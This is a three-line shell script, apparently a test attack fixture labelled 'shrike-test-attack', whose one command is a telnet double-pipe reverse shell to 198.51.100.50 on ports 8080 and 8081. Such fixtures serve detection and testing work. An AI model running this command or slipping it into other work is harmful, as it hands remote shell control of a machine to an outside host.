#!/bin/sh
# shrike-test-attack: reverse-shell: telnet double pipe when no nc is present
telnet 198.51.100.50 8080 | /bin/sh | telnet 198.51.100.50 8081
